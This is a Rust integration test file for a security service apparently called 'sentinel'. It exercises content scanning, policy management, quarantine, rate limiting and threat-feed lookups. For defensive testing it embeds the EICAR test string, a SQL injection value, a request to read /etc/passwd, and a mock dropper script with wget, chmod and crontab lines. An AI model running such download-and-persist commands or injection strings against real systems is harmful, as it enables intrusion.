use std::sync::Arc;

use base64::Engine;
use parking_lot::Mutex;
use serde_json::{json, Value};

use sentinel::filter::ThreatFeed;
use sentinel::guard::{ClientLimits, ClientRateLimiter};
use sentinel::health::{ComponentHealth, DegradationRegistry, HealthRegistry};
use sentinel::policy::{self, Policy, PolicyAction, PolicyStore};
use sentinel::quarantine::QuarantineVault;
use sentinel::sandbox::{Orchestrator, SandboxConfig};
use sentinel::server::RequestRouter;
use sentinel::util::sha256_hex;

const EICAR: &[u8] =
    br#"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#;

struct Fixture {
    _dir: tempfile::TempDir,
    router: RequestRouter,
    store: Arc<PolicyStore>,
    work_dir: std::path::PathBuf,
}

fn fixture() -> Fixture {
    fixture_with_limits(ClientLimits::default())
}

fn fixture_with_limits(limits: ClientLimits) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(PolicyStore::open(&dir.path().join("db")).unwrap());
    policy::seed_builtin_templates(&store).unwrap();

    let vault = Arc::new(QuarantineVault::open(&dir.path().join("vault"), store.clone()).unwrap());
    let orchestrator = Arc::new(Orchestrator::new(SandboxConfig::default(), Some(store.clone())));
    let threat_feed = Arc::new(Mutex::new(ThreatFeed::with_filter_params(1 << 16, 5).unwrap()));

    let health = Arc::new(HealthRegistry::new());
    {
        let store = store.clone();
        health.register_check(
            "database",
            Box::new(move || {
                if store.is_database_healthy() {
                    ComponentHealth::healthy("database")
                } else {
                    ComponentHealth::unhealthy("database", "probe failed")
                }
            }),
        );
        health.register_check("scorer", Box::new(|| ComponentHealth::healthy("scorer")));
    }

    let router = RequestRouter::new(
        store.clone(),
        orchestrator,
        vault,
        health,
        Arc::new(DegradationRegistry::new()),
        Arc::new(ClientRateLimiter::new(limits)),
        threat_feed,
    );

    let work_dir = dir.path().join("work");
    std::fs::create_dir_all(&work_dir).unwrap();
    Fixture {
        _dir: dir,
        router,
        store,
        work_dir,
    }
}

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

async fn send(fixture: &Fixture, request: Value) -> Value {
    fixture.router.handle_request(1, request).await
}

#[tokio::test]
async fn scan_content_of_eicar_reports_threat_with_policy_present() {
    let fx = fixture();

    let mut policy = Policy::new("EICAR", PolicyAction::Block);
    policy.file_hash = Some(sha256_hex(EICAR));
    fx.store.create_policy(&policy).unwrap();

    let reply = send(
        &fx,
        json!({ "action": "scan_content", "request_id": "scan-1", "content": b64(EICAR) }),
    )
    .await;

    assert_eq!(reply["status"], json!("success"));
    assert_eq!(reply["request_id"], json!("scan-1"));
    let result = &reply["result"];
    assert_eq!(result["threat_detected"], json!(true));
    assert!(result["match_count"].as_u64().unwrap() >= 1);
    assert_eq!(result["matched_rules"][0]["rule_name"], json!("EICAR-Test-File"));
    assert_eq!(result["policy_action"], json!("block"));

    // The detection landed in the audit trail.
    let history = fx.store.get_threat_history(None).unwrap();
    assert_eq!(history.len(), 1);
    assert_eq!(history[0].action_taken, "block");
}

#[tokio::test]
async fn scan_content_of_benign_bytes_is_clean() {
    let fx = fixture();
    let reply = send(
        &fx,
        json!({
            "action": "scan_content",
            "request_id": "scan-2",
            "content": b64(b"completely harmless text"),
        }),
    )
    .await;

    assert_eq!(reply["status"], json!("success"));
    assert_eq!(reply["result"], json!("clean"));
    assert!(fx.store.get_threat_history(None).unwrap().is_empty());
}

#[tokio::test]
async fn scan_content_validates_payload() {
    let fx = fixture();

    let missing = send(&fx, json!({ "action": "scan_content", "request_id": "r" })).await;
    assert_eq!(missing["status"], json!("error"));
    assert_eq!(missing["error"], json!("Missing 'content' field"));

    let not_base64 = send(
        &fx,
        json!({ "action": "scan_content", "request_id": "r", "content": "!!!not-base64!!!" }),
    )
    .await;
    assert_eq!(not_base64["status"], json!("error"));
    assert_eq!(not_base64["error"], json!("Failed to decode base64 content"));
}

#[tokio::test]
async fn scan_file_enforces_the_path_allowlist() {
    let fx = fixture();

    let reply = send(
        &fx,
        json!({ "action": "scan_file", "request_id": "r", "file_path": "/etc/passwd" }),
    )
    .await;
    assert_eq!(reply["status"], json!("error"));
    assert_eq!(reply["error"], json!("File path not in allowed directory"));

    let reply = send(
        &fx,
        json!({ "action": "scan_file", "request_id": "r", "file_path": "/tmp/definitely-missing-sentinel-test" }),
    )
    .await;
    assert_eq!(reply["status"], json!("error"));
}

#[tokio::test]
async fn rate_limited_scans_get_the_canonical_error() {
    let fx = fixture_with_limits(ClientLimits {
        scan_requests_per_second: 0.0001,
        scan_burst_capacity: 1.0,
        ..Default::default()
    });

    let first = send(
        &fx,
        json!({ "action": "scan_content", "request_id": "a", "content": b64(b"x") }),
    )
    .await;
    assert_eq!(first["status"], json!("success"));

    let second = send(
        &fx,
        json!({ "action": "scan_content", "request_id": "b", "content": b64(b"y") }),
    )
    .await;
    assert_eq!(second["status"], json!("error"));
    assert!(second["error"].as_str().unwrap().starts_with("Rate limit exceeded"));

    // Rejection is immediate and mutates nothing: a different client
    // still scans fine.
    let other = fx
        .router
        .handle_request(2, json!({ "action": "scan_content", "request_id": "c", "content": b64(b"z") }))
        .await;
    assert_eq!(other["status"], json!("success"));
}

#[tokio::test]
async fn policy_crud_through_the_router() {
    let fx = fixture();

    // The policy payload rides in a nested object so its own 'action'
    // field never collides with the dispatch verb.
    let created = send(
        &fx,
        json!({
            "action": "createPolicy",
            "request_id": "p1",
            "policy": {
                "rule_name": "Router-Made",
                "action": "block",
                "url_pattern": "https://bad.example.com/%",
            },
        }),
    )
    .await;
    assert_eq!(created["status"], json!("success"), "reply: {created}");
    let policy_id = created["policy_id"].as_i64().unwrap();

    let fetched = send(
        &fx,
        json!({ "action": "getPolicy", "request_id": "p2", "policy_id": policy_id }),
    )
    .await;
    assert_eq!(fetched["policy"]["rule_name"], json!("Router-Made"));

    let updated = send(
        &fx,
        json!({
            "action": "updatePolicy",
            "request_id": "p3",
            "policy_id": policy_id,
            "policy": { "rule_name": "Router-Made", "action": "warn_user" },
        }),
    )
    .await;
    assert_eq!(updated["status"], json!("success"));
    let fetched = fx.store.get_policy(policy_id).unwrap();
    assert_eq!(fetched.action, PolicyAction::WarnUser);

    // Validation failures are structured errors, and nothing mutates.
    let invalid = send(
        &fx,
        json!({
            "action": "createPolicy",
            "request_id": "p4",
            "policy": {
                "rule_name": "Injector",
                "action": "block",
                "url_pattern": "'; DROP TABLE policies; --",
            },
        }),
    )
    .await;
    assert_eq!(invalid["status"], json!("error"));

    let deleted = send(
        &fx,
        json!({ "action": "deletePolicy", "request_id": "p5", "policy_id": policy_id }),
    )
    .await;
    assert_eq!(deleted["status"], json!("success"));
    assert!(fx.store.get_policy(policy_id).is_err());
}

#[tokio::test]
async fn unknown_action_and_missing_action() {
    let fx = fixture();

    let reply = send(&fx, json!({ "action": "selfDestruct", "request_id": "x" })).await;
    assert_eq!(reply["status"], json!("error"));
    assert_eq!(reply["error"], json!("Unknown action"));

    let reply = send(&fx, json!({ "request_id": "y" })).await;
    assert_eq!(reply["status"], json!("error"));
    assert_eq!(reply["error"], json!("Missing 'action' field"));
}

#[tokio::test]
async fn health_and_metrics_always_answer() {
    let fx = fixture();

    let health = send(&fx, json!({ "action": "health", "request_id": "h" })).await;
    assert_eq!(health["status"], json!("success"));
    assert_eq!(health["health"]["status"], json!("healthy"));
    assert!(health["health"]["components"]["database"].is_object());
    assert!(health["health"]["uptime_seconds"].is_u64());

    let live = send(&fx, json!({ "action": "health_live", "request_id": "l" })).await;
    assert_eq!(live["liveness"]["alive"], json!(true));

    let ready = send(&fx, json!({ "action": "health_ready", "request_id": "r" })).await;
    assert_eq!(ready["readiness"]["ready"], json!(true));

    let metrics = send(&fx, json!({ "action": "metrics", "request_id": "m" })).await;
    let text = metrics["metrics"].as_str().unwrap();
    assert!(text.contains("# HELP sentinel_health_status"));
    assert!(text.contains("# TYPE sentinel_health_status gauge"));
}

#[tokio::test]
async fn statistics_snapshot_includes_core_counters() {
    let fx = fixture();

    send(
        &fx,
        json!({ "action": "scan_content", "request_id": "s", "content": b64(b"some text") }),
    )
    .await;

    let stats = send(&fx, json!({ "action": "loadStatistics", "request_id": "st" })).await;
    assert_eq!(stats["status"], json!("success"));
    let statistics = &stats["statistics"];
    assert_eq!(statistics["files_analyzed"], json!(1));
    assert!(statistics["policy_count"].is_u64() || statistics["policy_count"].is_number());
    assert!(statistics["quarantine"]["current_quarantine_count"].is_u64());
}

#[tokio::test]
async fn template_actions_instantiate_policies() {
    let fx = fixture();

    let templates = send(&fx, json!({ "action": "getTemplates", "request_id": "t" })).await;
    assert!(templates["templates"].as_array().unwrap().len() >= 3);

    let applied = send(
        &fx,
        json!({
            "action": "applyPolicyTemplate",
            "request_id": "t2",
            "template_name": "block-known-hash",
            "variables": { "rule_name": "EICAR", "file_hash": "ab".repeat(32) },
        }),
    )
    .await;
    assert_eq!(applied["status"], json!("success"));
    assert_eq!(applied["policy_ids"].as_array().unwrap().len(), 1);

    let policies = send(&fx, json!({ "action": "loadPolicies", "request_id": "t3" })).await;
    let list = policies["policies"].as_array().unwrap();
    assert!(list.iter().any(|p| p["rule_name"] == json!("EICAR")));
}

#[tokio::test]
async fn quarantine_lifecycle_through_the_router() {
    let fx = fixture();

    let sample = fx.work_dir.join("dropper.sh");
    std::fs::write(
        &sample,
        b"#!/bin/sh\nwget http://10.0.0.5/x.com\nchmod +x /tmp/x\ncrontab -e\nexec socket connect send\nmmap mprotect ptrace\n",
    )
    .unwrap();

    let quarantined = send(
        &fx,
        json!({
            "action": "quarantineFile",
            "request_id": "q1",
            "file_path": sample.to_string_lossy(),
        }),
    )
    .await;
    assert_eq!(quarantined["status"], json!("success"), "reply: {quarantined}");
    let record_id = quarantined["record"]["id"].as_i64().unwrap();
    assert!(!sample.exists());

    let listed = send(&fx, json!({ "action": "openQuarantineManager", "request_id": "q2" })).await;
    assert_eq!(listed["quarantined_files"].as_array().unwrap().len(), 1);

    let target = fx.work_dir.join("restored.sh");
    let restored = send(
        &fx,
        json!({
            "action": "restoreQuarantinedFile",
            "request_id": "q3",
            "quarantine_id": record_id,
            "target_path": target.to_string_lossy(),
        }),
    )
    .await;
    assert_eq!(restored["status"], json!("success"), "reply: {restored}");
    assert!(target.exists());

    let listed = send(&fx, json!({ "action": "listQuarantinedFiles", "request_id": "q4" })).await;
    assert!(listed["quarantined_files"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn network_behavior_and_credential_actions() {
    let fx = fixture();

    let set = send(
        &fx,
        json!({
            "action": "setNetworkBehaviorPolicy",
            "request_id": "n1",
            "domain": "tracker.example.com",
            "threat_type": "form_exfil",
            "policy": "block",
            "confidence": 900,
        }),
    )
    .await;
    assert_eq!(set["status"], json!("success"));

    let listed = send(&fx, json!({ "action": "getNetworkBehaviorPolicies", "request_id": "n2" })).await;
    assert_eq!(listed["policies"].as_array().unwrap().len(), 1);

    let rel = send(
        &fx,
        json!({
            "action": "addCredentialRelationship",
            "request_id": "c1",
            "primary_origin": "accounts.example.com",
            "related_origin": "sso.example.com",
            "relation": "sso",
        }),
    )
    .await;
    assert_eq!(rel["status"], json!("success"));

    let rels = send(&fx, json!({ "action": "listCredentialRelationships", "request_id": "c2" })).await;
    assert_eq!(rels["relationships"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn bloom_feed_hit_is_reported_even_for_otherwise_clean_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(PolicyStore::open(&dir.path().join("db")).unwrap());
    let vault = Arc::new(QuarantineVault::open(&dir.path().join("vault"), store.clone()).unwrap());
    let orchestrator = Arc::new(Orchestrator::new(SandboxConfig::default(), Some(store.clone())));

    let content = b"bytes that are clean by analysis but known-bad by feed";
    let feed = {
        let mut feed = ThreatFeed::with_filter_params(1 << 16, 5).unwrap();
        feed.add_threat_hash(
            &sha256_hex(content),
            sentinel::filter::ThreatCategory::Malware,
            9,
        )
        .unwrap();
        Arc::new(Mutex::new(feed))
    };

    let router = RequestRouter::new(
        store,
        orchestrator,
        vault,
        Arc::new(HealthRegistry::new()),
        Arc::new(DegradationRegistry::new()),
        Arc::new(ClientRateLimiter::default()),
        feed,
    );

    let reply = router
        .handle_request(1, json!({ "action": "scan_content", "request_id": "b", "content": b64(content) }))
        .await;

    assert_eq!(reply["status"], json!("success"));
    assert_eq!(reply["result"]["threat_detected"], json!(true));
    assert_eq!(reply["result"]["bloom_filter_hit"], json!(true));
    assert_eq!(
        reply["result"]["known_threat"],
        json!("File hash matches federated threat database")
    );
}
